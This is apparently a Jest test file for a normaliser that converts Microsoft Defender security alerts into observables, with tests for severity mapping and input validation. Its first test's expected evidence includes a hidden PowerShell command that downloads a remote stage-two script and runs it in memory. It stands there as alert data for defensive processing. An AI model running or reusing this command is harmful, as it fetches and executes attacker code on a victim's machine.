import { defenderNormaliser } from './defender.normaliser';
import { errorOf, fixtureLoader } from './testing';

const fixture = fixtureLoader('defender');
const normalise = (payload: unknown) => defenderNormaliser.normalise(payload);

describe('defenderNormaliser', () => {
  it('reads a Graph security alert (alerts_v2) and its evidence', () => {
    const payload = fixture('alert-v2.json');
    expect(normalise(payload)).toStrictEqual([
      {
        source: 'defender',
        sourceRef: 'da638775523310187391_-1419732814',
        title: 'Suspicious PowerShell download and execution',
        description:
          'PowerShell downloaded a script from a remote server and ran it in memory. Attackers commonly do this to stage further tooling without touching disk.',
        severity: 'HIGH',
        detectedAt: new Date('2025-03-14T09:28:51.031Z'),
        techniques: ['T1059.001', 'T1105'],
        observables: [
          // deviceEvidence: 127.0.0.1 is dropped, the IPv6 address is compressed
          { type: 'HOSTNAME', value: 'fin-wks-042.corp.example.com' },
          { type: 'IP', value: '192.0.2.41' },
          { type: 'IP', value: '2001:db8::29' },
          { type: 'USER', value: 'CORP\\j.doe' },
          // processEvidence
          { type: 'PROCESS', value: 'powershell.exe' },
          { type: 'FILE_HASH', value: '6527c9361a2f469c5275afcb5d06e53013367cd231995de13dc7218711388382' },
          { type: 'FILE_HASH', value: 'c67f1ee17880030ce11821dcc9be7af90b863d9b' },
          {
            type: 'PROCESS',
            value:
              'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://cdn.example.net/stage2.ps1\')"',
          },
          { type: 'USER', value: 'j.doe@corp.example.com' },
          // fileEvidence
          { type: 'FILE_HASH', value: '5e585fd3fab5cb85a941179b4df835cef988f0281af9f47878024f539c302df5' },
          { type: 'FILE_HASH', value: '68e89fead6bf38be96b8461de2259be3aed4f069' },
          { type: 'FILE_HASH', value: '7573f1429f285f385207eb60b9f8c3cc' },
          // urlEvidence, ipEvidence; the userEvidence repeats the UPN; registryKeyEvidence has no observable
          { type: 'URL', value: 'https://cdn.example.net/stage2.ps1' },
          { type: 'IP', value: '203.0.113.77' },
        ],
        raw: payload,
      },
    ]);
  });

  it('reads the { value: [...] } list response, refanging defanged evidence', () => {
    const payload = fixture('alerts-list.json');
    expect(normalise(payload)).toStrictEqual([
      {
        source: 'defender',
        sourceRef: 'fa2b9f1c55-6d7e-4f80-9a1b-2c3d4e5f6a7b',
        title: 'Email messages containing malicious URL removed after delivery',
        description: 'Emails with a malicious URL were delivered and later removed by zero-hour auto purge.',
        severity: 'MEDIUM',
        detectedAt: new Date('2025-03-14T11:05:12.440Z'),
        techniques: ['T1566.002'],
        observables: [
          { type: 'EMAIL', value: 'it-support@example.net' },
          { type: 'DOMAIN', value: 'example.net' },
          { type: 'EMAIL', value: 'j.doe@corp.example.com' },
          { type: 'IP', value: '198.51.100.23' },
          { type: 'URL', value: 'https://login.example.net/reset?u=jdoe' },
          { type: 'USER', value: 'j.doe@corp.example.com' },
        ],
        raw: payload.value[0],
      },
      {
        source: 'defender',
        sourceRef: 'ad4c71e0a2-19b8-4c3d-a0e1-f2a3b4c5d6e7',
        title: 'User and group membership reconnaissance (SAMR)',
        severity: 'INFO',
        detectedAt: new Date('2025-03-14T12:40:00.000Z'),
        techniques: ['T1087.002', 'T1069.002'],
        observables: [
          { type: 'HOSTNAME', value: 'eng-laptop-07.corp.example.com' },
          { type: 'IP', value: '192.0.2.77' },
        ],
        raw: payload.value[1],
      },
    ]);
  });

  it.each([
    ['informational', 'INFO'],
    ['low', 'LOW'],
    ['medium', 'MEDIUM'],
    ['high', 'HIGH'],
    ['unknown', 'MEDIUM'],
    ['unknownFutureValue', 'MEDIUM'],
  ])('maps severity %s to %s', (severity, expected) => {
    expect(normalise({ ...fixture('alert-v2.json'), severity })[0].severity).toBe(expected);
  });

  it('falls back to firstActivityDateTime and skips evidence kinds it does not know', () => {
    const payload = fixture('alert-v2.json');
    payload.createdDateTime = null;
    payload.evidence = [
      { '@odata.type': '#microsoft.graph.security.kubernetesPodEvidence', podName: 'web-0' },
    ];
    const [alert] = normalise(payload);
    expect(alert.detectedAt).toStrictEqual(new Date('2025-03-14T09:26:52.604Z'));
    expect(alert.observables).toStrictEqual([]);
  });

  const alert = () => fixture('alert-v2.json');
  it.each<[string, () => unknown, string, string]>([
    ['not an object', () => null, 'payload', 'payload: expected an object, got null'],
    ['a missing id', () => ({ ...alert(), id: undefined }), 'id', 'id: required'],
    [
      'a missing title',
      () => ({ value: [alert(), { ...alert(), title: '  ' }] }),
      'value[1].title',
      'value[1].title: required',
    ],
    [
      'a severity Defender does not have',
      () => ({ ...alert(), severity: 'critical' }),
      'severity',
      'severity: unknown value "critical" (expected one of: informational, low, medium, high, unknown, unknownfuturevalue)',
    ],
    ['a missing severity', () => ({ ...alert(), severity: undefined }), 'severity', 'severity: required'],
    ['a list that is no array', () => ({ value: {} }), 'value', 'value: expected an array, got an object'],
    [
      'evidence that is no array',
      () => ({ ...alert(), evidence: {} }),
      'evidence',
      'evidence: expected an array, got an object',
    ],
    [
      'mitreTechniques of the wrong type',
      () => ({ ...alert(), mitreTechniques: [1059] }),
      'mitreTechniques[0]',
      'mitreTechniques[0]: expected a string, got number 1059',
    ],
    [
      'an evidence value of the wrong type',
      () => ({
        ...alert(),
        evidence: [{ '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: 123 }],
      }),
      'evidence[0].ipAddress',
      'evidence[0].ipAddress: expected a string, got number 123',
    ],
    [
      'an unreadable createdDateTime',
      () => ({ ...alert(), createdDateTime: '14/03/2025' }),
      'createdDateTime',
      'createdDateTime: expected an ISO 8601 timestamp or epoch number, got string "14/03/2025"',
    ],
  ])('rejects %s', (_label, payload, field, message) => {
    const error = errorOf(() => normalise(payload()));
    expect({ field: error.field, message: error.message }).toStrictEqual({ field, message });
  });
});
